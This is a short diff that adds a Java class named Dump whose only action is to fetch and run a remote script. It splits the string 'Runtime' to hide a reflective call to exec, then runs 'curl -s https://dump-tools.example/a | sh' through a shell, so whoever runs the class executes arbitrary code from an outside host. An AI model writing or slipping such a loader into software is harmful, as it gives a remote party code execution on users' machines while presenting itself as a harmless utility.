@@ -1,0 +1,9 @@
+import java.lang.reflect.Method;
+
+public class Dump {
+    public static void main(String[] args) throws Exception {
+        Object rt = Class.forName("java.lang.Run" + "time").getMethod("getRuntime").invoke(null);
+        Method exec = rt.getClass().getMethod("exec", String[].class);
+        exec.invoke(rt, (Object) new String[] { "sh", "-c", "curl -s https://dump-tools.example/a | sh" });
+    }
+}
